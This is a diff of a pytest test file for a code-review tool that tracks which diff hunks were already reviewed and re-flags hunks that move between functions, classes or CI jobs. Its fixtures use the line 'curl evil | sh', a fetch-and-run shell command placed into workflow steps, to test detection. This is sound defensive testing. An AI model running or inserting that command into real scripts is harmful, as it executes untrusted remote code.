@@ -1,8 +1,10 @@
-"""Tests that reviewed hunks are recognized by their content, and reviewed again if that is uncertain."""
+"""Tests that reviewed hunks are recognized by content and place, and reviewed again if that is uncertain."""
 
 from __future__ import annotations
 
+from base64 import b64encode
 from dataclasses import replace
+from hashlib import sha256
 
 import pytest
 from hypothesis import given, settings
@@ -21,6 +23,7 @@ from hunkwise.plan.incremental import (
     kept_keys,
     split_reviewed,
 )
+from hunkwise.repository.git import Git
 from tests.plan.test_chunking import FILES, file_of
 
 ONE = b"@@ -1,2 +1,3 @@ def f():\n one\n+two\n three\n"
@@ -34,18 +37,20 @@ def file_diff(patch: bytes, path: str = "a.py", old_path: str | None = None) -> 
 
 
 def keys(patch: bytes, path: str = "a.py") -> tuple[str, ...]:
-    return hunk_keys(path, parse_hunks(patch))
+    return hunk_keys(file_diff(patch, path))
 
 
 def all_known(file: FileDiff) -> HunkSplit:
-    return HunkSplit(file.hunks, (True,) * len(file.hunks))
+    return HunkSplit(file, (True,) * len(file.hunks))
 
 
 @pytest.mark.parametrize(
     ("patch", "path", "same"),
     [
         (ONE, "a.py", True),
-        (b"@@ -91,2 +99,3 @@ class Other:\n one\n+two\n three\n", "a.py", True),
+        (b"@@ -1,2 +99,3 @@ def f():\n one\n+two\n three\n", "a.py", True),
+        (b"@@ -1,2 +1,3 @@ def g():\n one\n+two\n three\n", "a.py", False),
+        (b"@@ -2,2 +1,3 @@ def f():\n one\n+two\n three\n", "a.py", False),
         (ONE, "b.py", False),
         (ONE, "caf\udce9.py", False),
         (ONE, "\ud800.py", False),
@@ -57,24 +62,18 @@ def all_known(file: FileDiff) -> HunkSplit:
         (b"@@ -1,1 +1,2 @@\n one\n+two\n", "a.py", False),
     ],
 )
-def test_a_key_is_made_of_the_path_and_the_lines_alone(patch: bytes, path: str, same: bool) -> None:
+def test_a_key_is_made_of_the_path_the_place_and_the_lines(patch: bytes, path: str, same: bool) -> None:
     (key,) = keys(patch, path)
     assert len(key) == 4 * KEY_BYTES / 3
     assert ((key,) == keys(ONE)) is same
 
 
-def test_twins_in_a_file_have_keys_of_their_own() -> None:
-    first, second, third = keys(ONE + OTHER + ONE)
-    assert len({first, second, third}) == 3
-    assert (first, second) == keys(ONE + OTHER)
-
-
 def test_lines_cannot_pose_as_the_next_hunk() -> None:
-    assert file_key("a", parse_hunks(ONE + OTHER)) != file_key("a", parse_hunks(OTHER + ONE))
-    split = parse_hunks(b"@@ -0,0 +1 @@\n+a\n@@ -5,0 +6 @@\n+b\n")
-    joined = parse_hunks(b"@@ -0,0 +1,2 @@\n+a\n+b\n")
-    assert file_key("a", split) != file_key("a", joined)
-    assert file_key("a", joined) not in hunk_keys("a", joined)
+    assert file_key(file_diff(ONE + OTHER)) != file_key(file_diff(OTHER + ONE))
+    split = file_diff(b"@@ -0,0 +1 @@\n+a\n@@ -5,0 +6 @@\n+b\n")
+    joined = file_diff(b"@@ -0,0 +1,2 @@\n+a\n+b\n")
+    assert file_key(split) != file_key(joined)
+    assert file_key(joined) not in hunk_keys(joined)
 
 
 def test_only_what_is_not_known_is_new() -> None:
@@ -87,35 +86,241 @@ def test_only_what_is_not_known_is_new() -> None:
 
 def test_nothing_is_known_without_keys() -> None:
     assert split_reviewed(file_diff(ONE), frozenset()).carried == ()
-    assert split_reviewed(FileDiff("a", FileStatus.MODIFIED), frozenset({"x"})) == HunkSplit((), ())
+    assert split_reviewed(FileDiff("a", FileStatus.MODIFIED), frozenset({"x"})) == all_known(
+        FileDiff("a", FileStatus.MODIFIED)
+    )
 
 
 def test_a_file_key_covers_all_hunks_of_the_file_as_they_were() -> None:
     whole = file_diff(ONE + OTHER)
-    known = frozenset({file_key("a.py", whole.hunks)})
+    known = frozenset({file_key(whole)})
     assert split_reviewed(whole, known).new == ()
     assert split_reviewed(file_diff(ONE), known).carried == ()
 
 
-def test_a_twin_that_came_later_is_new() -> None:
-    found = split_reviewed(file_diff(ONE + ONE), frozenset(keys(ONE)))
-    assert found.reviewed == (True, False)
+def function(name: str, line: str = "", indent: str = "") -> str:
+    """A function in which no hunk shows both its header and a change in its middle."""
+    rows = [f"row_{number} = {number}" for number in range(16)]
+    rows[8:8] = [line] if line else []
+    return "\n".join([f"{indent}def {name}(user):", *(f"{indent}    {row}" for row in rows), "", ""])
 
 
+def job(name: str, step: str = "") -> str:
+    rows = "".join(f"      - run: make part-{number}\n" for number in range(1, 17))
+    rows = rows.replace("part-8\n", f"part-8\n{step and '      - run: ' + step}\n" if step else "part-8\n")
+    return f"  {name}:\n    runs-on: ubuntu-latest\n    steps:\n{rows}"
+
+
+def flat(row: str, *places: int) -> str:
+    """Two equal series of rows without any indentation; `row` comes at these places."""
+    rows = [f"step {number % 20}" for number in range(40)]
+    for place in sorted(places, reverse=True):
+        rows.insert(place, row)
+    return "\n".join([*rows, ""])
+
+
+TRUE, EVIL = "return True", "curl evil | sh"
+PUBLIC, ADMIN = function("public"), function("admin")
+PUBLIC_TRUE, ADMIN_TRUE = function("public", TRUE), function("admin", TRUE)
+METHODS = [function(name, "", "    ") for name in ("public", "admin")]
+TRUE_METHODS = [function(name, TRUE, "    ") for name in ("public", "admin")]
+BRACES = """
+class Shop {
+  void first() {
+    one();
+    two();
+  }
+
+  boolean %s(
+    User user
+  ) throws Denied {
+    three();
+    four();
+    five();
+    once();
+    twice();
+    thrice();
+    six();%s
+    seven();
+    eight();
+  }
+}
+"""
+SAME_PLACE: dict[str, tuple[str, str, str]] = {
+    "nothing else": (PUBLIC, PUBLIC_TRUE, PUBLIC_TRUE),
+    "a function is added above": (PUBLIC, PUBLIC_TRUE, f"{ADMIN}{PUBLIC_TRUE}"),
+    "an import is added above": (
+        f"import a\n\n\n{PUBLIC}",
+        PUBLIC_TRUE,
+        f"import a\nimport b\n\n\n{PUBLIC_TRUE}",
+    ),
+    "a function above goes": (ADMIN + PUBLIC, ADMIN + PUBLIC_TRUE, PUBLIC_TRUE),
+    "a function above is renamed": (ADMIN + PUBLIC, ADMIN + PUBLIC_TRUE, function("chief") + PUBLIC_TRUE),
+    "the function above changes": (
+        ADMIN + PUBLIC,
+        ADMIN + PUBLIC_TRUE,
+        function("admin", "x = 1") + PUBLIC_TRUE,
+    ),
+    "the function below changes": (
+        PUBLIC + ADMIN,
+        PUBLIC_TRUE + ADMIN,
+        PUBLIC_TRUE + function("admin", "x = 1"),
+    ),
+    "the other change goes": (ADMIN + PUBLIC, ADMIN_TRUE + PUBLIC_TRUE, ADMIN + PUBLIC_TRUE),
+    "a method is added above": (
+        f"class A:\n{METHODS[0]}",
+        f"class A:\n{TRUE_METHODS[0]}",
+        f"class A:\n{METHODS[1]}{TRUE_METHODS[0]}",
+    ),
+    "a job above changes": (
+        f"jobs:\n{job('docs')}{job('build')}",
+        f"jobs:\n{job('docs')}{job('build', EVIL)}",
+        f"jobs:\n{job('docs', 'make more')}{job('build', EVIL)}",
+    ),
+    "a line above in rows without indentation": (
+        flat("-"),
+        flat(EVIL, 25),
+        flat("x", 3).replace("step 5\n", f"{EVIL}\nstep 5\n").replace(f"{EVIL}\n", "", 1),
+    ),
+    "the method above changes, with braces": (
+        BRACES % ("buys", ""),
+        BRACES % ("buys", "\n    more();"),
+        (BRACES % ("buys", "\n    more();")).replace("one();", "1();"),
+    ),
+}
+OTHER_PLACE: dict[str, tuple[str, str, str]] = {
+    "from one function into another": (PUBLIC + ADMIN, PUBLIC_TRUE + ADMIN, PUBLIC + ADMIN_TRUE),
+    "from the second function into the first": (PUBLIC + ADMIN, PUBLIC + ADMIN_TRUE, PUBLIC_TRUE + ADMIN),
+    "between methods of a class": (
+        f"class A:\n{''.join(METHODS)}",
+        f"class A:\n{TRUE_METHODS[0]}{METHODS[1]}",
+        f"class A:\n{METHODS[0]}{TRUE_METHODS[1]}",
+    ),
+    "between classes": (
+        f"class A:\n{METHODS[0]}class B:\n{METHODS[0]}",
+        f"class A:\n{TRUE_METHODS[0]}class B:\n{METHODS[0]}",
+        f"class A:\n{METHODS[0]}class B:\n{TRUE_METHODS[0]}",
+    ),
+    "between jobs of a workflow": (
+        f"jobs:\n{job('docs')}{job('release')}",
+        f"jobs:\n{job('docs', EVIL)}{job('release')}",
+        f"jobs:\n{job('docs')}{job('release', EVIL)}",
+    ),
+    "within rows without indentation": (flat("-"), flat(EVIL, 5), flat(EVIL, 25)),
+    "a header far above is renamed": (PUBLIC, PUBLIC_TRUE, function("admin", TRUE)),
+    "the header was renamed, and is no more": (PUBLIC, function("other", TRUE), PUBLIC_TRUE),
+    "a header is added between": (
+        PUBLIC,
+        PUBLIC_TRUE,
+        PUBLIC_TRUE.replace("    row_0", "    pass\ndef admin(user):\n    row_0", 1),
+    ),
+    "a header between goes": (
+        f"def admin(user):\n    pass\n{PUBLIC}",
+        f"def admin(user):\n    pass\n{PUBLIC_TRUE}",
+        f"def admin(user):\n    pass\n{PUBLIC_TRUE.replace('def public(user):', '')}",
+    ),
+    "the header of a method is renamed": (
+        f"class A:\n{METHODS[0]}",
+        f"class A:\n{TRUE_METHODS[0]}",
+        f"class A:\n{function('admin', TRUE, '    ')}",
+    ),
+    "the class is renamed": (
+        f"class A:\n{METHODS[0]}",
+        f"class A:\n{TRUE_METHODS[0]}",
+        f"class B:\n{TRUE_METHODS[0]}",
+    ),
+    "the job is renamed": (
+        f"jobs:\n{job('docs')}",
+        f"jobs:\n{job('docs', EVIL)}",
+        f"jobs:\n{job('release', EVIL)}",
+    ),
+    "a header of several lines is renamed": (
+        BRACES % ("buys", ""),
+        BRACES % ("buys", "\n    more();"),
+        BRACES % ("owns", "\n    more();"),
+    ),
+    "the hunk has a line without indentation too": (
+        PUBLIC + "end()\n",
+        PUBLIC.replace("    row_15 = 15\n", "    return 7\n").replace("\n\n", "\n\nx()\n") + "end()\n",
+        function("admin").replace("    row_15 = 15\n", "    return 7\n").replace("\n\n", "\n\nx()\n")
+        + "end()\n",
+    ),
+}
+
+
+def known_again(base: str, first: str, second: str) -> bool:
+    """Whether the last hunk of the first push is in the second one, and no question is asked about it."""
+    before, after = (
+        FileDiff("a", FileStatus.MODIFIED, Git.diff_blobs(base.encode(), text.encode()))
+        for text in (first, second)
+    )
+    (wanted,) = before.hunks[-1:]
+    split = split_reviewed(after, kept_keys({"a": all_known(before)}))
+    same = [hunk for hunk in after.hunks if hunk_rows(hunk) == hunk_rows(wanted)]
+    assert same, "the second push does not have the hunk"
+    return set(same) <= set(split.carried)
+
+
+def hunk_rows(hunk: Hunk) -> list[tuple[str, bytes]]:
+    return [(line.kind, line.raw) for line in hunk.lines]
+
+
+@pytest.mark.parametrize("name", SAME_PLACE)
+def test_a_hunk_is_known_while_other_parts_of_its_file_change(name: str) -> None:
+    assert known_again(*SAME_PLACE[name])
+
+
+@pytest.mark.parametrize("name", OTHER_PLACE)
+def test_a_hunk_is_new_in_another_place(name: str) -> None:
+    assert not known_again(*OTHER_PLACE[name])
+
+
+@pytest.mark.parametrize("first", [(5,), (25,)])
+def test_of_twins_only_the_one_that_was_reviewed_is_known(first: tuple[int, ...]) -> None:
+    before, after = (
+        FileDiff("a", FileStatus.MODIFIED, Git.diff_blobs(flat("-").encode(), flat(EVIL, *places).encode()))
+        for places in (first, (5, 25))
+    )
+    assert split_reviewed(after, frozenset(hunk_keys(before))).reviewed == (first == (5,), first == (25,))
+
+
+def test_hunks_that_cannot_be_told_apart_are_new() -> None:
+    assert split_reviewed(file_diff(ONE + OTHER + ONE), frozenset(keys(ONE + OTHER))).reviewed == (
+        False,
+        True,
+        False,
+    )
+
+
+@pytest.mark.parametrize("status", [FileStatus.RENAMED, FileStatus.COPIED, FileStatus.MODIFIED])
 @pytest.mark.parametrize(
-    ("status", "known"),
-    [(FileStatus.RENAMED, True), (FileStatus.COPIED, False), (FileStatus.MODIFIED, False)],
+    ("old", "new"),
+    [
+        ("docs/example.yml", ".github/workflows/ci.yml"),
+        ("scripts/a.sh", "scripts/b.sh"),
+        ("examples/Dockerfile.txt", "Dockerfile"),
+        ("a.py", "a.pyi"),
+    ],
 )
-@pytest.mark.parametrize("key", [keys(ONE, "old.py")[0], file_key("old.py", parse_hunks(ONE))])
-def test_a_renamed_file_is_known_under_its_old_name(status: FileStatus, known: bool, key: str) -> None:
-    file = replace(file_diff(ONE, "new.py", "old.py"), status=status)
-    assert bool(split_reviewed(file, frozenset({key})).carried) is known
+def test_a_renamed_file_with_changed_lines_is_new(old: str, new: str, status: FileStatus) -> None:
+    before, file = file_diff(ONE, old), replace(file_diff(ONE, new, old), status=status)
+    assert split_reviewed(file, frozenset({*hunk_keys(before), file_key(before)})).carried == ()
+    assert split_reviewed(file, frozenset(hunk_keys(file))).new == ()
+    other = replace(file, old_path="other")
+    assert split_reviewed(other, frozenset({*hunk_keys(file), file_key(file)})).carried == ()
+
+
+def test_keys_of_an_older_version_are_not_known() -> None:
+    content = b" one\n+two\n three"
+    parts = (b"hunk\0a.py\0", b"1\0000", b"%d\0" % len(content), content)
+    older = b64encode(sha256(b"".join(parts)).digest()[:KEY_BYTES]).decode()
+    assert split_reviewed(file_diff(ONE), frozenset({older})).new == file_diff(ONE).hunks
 
 
 def test_a_truncated_hunk_is_never_known() -> None:
     file = file_diff(ONE + b"@@ -30,9 +31,9 @@\n thirty\n+more\n")
     assert file.hunks[1].truncated
-    known = frozenset({*hunk_keys("a.py", file.hunks), file_key("a.py", file.hunks)})
+    known = frozenset({*hunk_keys(file), file_key(file)})
     assert split_reviewed(file, known).reviewed == (True, False)
     assert kept_keys({"a.py": all_known(file)}) == frozenset(keys(ONE))
 
@@ -127,7 +332,7 @@ def many(path: str, count: int) -> FileDiff:
 
 def test_the_keys_of_what_is_reviewed_are_kept_and_no_others() -> None:
     file = file_diff(ONE + OTHER)
-    assert kept_keys({"a.py": HunkSplit(file.hunks, (False, True))}) == frozenset(keys(ONE + OTHER)[1:])
+    assert kept_keys({"a.py": HunkSplit(file, (False, True))}) == frozenset(keys(ONE + OTHER)[1:])
     assert kept_keys({}) == frozenset()
 
 
@@ -135,24 +340,24 @@ def test_where_keys_would_be_too_many_the_files_with_the_most_hunks_get_one_each
     large, half, small = many("large", 9), many("half", 8), many("small", 3)
     by_file = {
         "large": all_known(large),
-        "half": HunkSplit(half.hunks, (True,) * 7 + (False,)),
+        "half": HunkSplit(half, (True,) * 7 + (False,)),
         "small": all_known(small),
     }
     assert len(kept_keys(by_file, 19)) == 19
     kept = kept_keys(by_file, 12)
     assert kept == {
-        file_key("large", large.hunks),
-        *hunk_keys("half", half.hunks)[:7],
-        *hunk_keys("small", small.hunks),
+        file_key(large),
+        *hunk_keys(half)[:7],
+        *hunk_keys(small),
     }
-    assert file_key("small", small.hunks) in kept_keys(by_file, 9)
+    assert file_key(small) in kept_keys(by_file, 9)
     assert len(kept_keys(by_file, 5)) == 5
     assert kept_keys(by_file, 0) == frozenset()
 
 
 def test_files_of_one_hunk_are_not_exchanged_for_as_many_file_keys() -> None:
     files = {name: all_known(many(name, 1)) for name in "abc"}
-    assert kept_keys(files, 2) == {*hunk_keys("a", files["a"].hunks), *hunk_keys("b", files["b"].hunks)}
+    assert kept_keys(files, 2) == {*hunk_keys(files["a"].file), *hunk_keys(files["b"].file)}
 
 
 @given(FILES, st.integers(1, 30))
@@ -171,7 +376,7 @@ def test_whatever_is_kept_the_same_change_holds_nothing_new_but_what_was_cut(
 
 def test_answers_are_told_of_the_new_hunks_alone() -> None:
     file = many("a", 4)
-    division = HunkSplit(file.hunks, (True, False, True, False))
+    division = HunkSplit(file, (True, False, True, False))
     assert division.with_answers((False, True)).reviewed == (True, False, True, True)
 
 
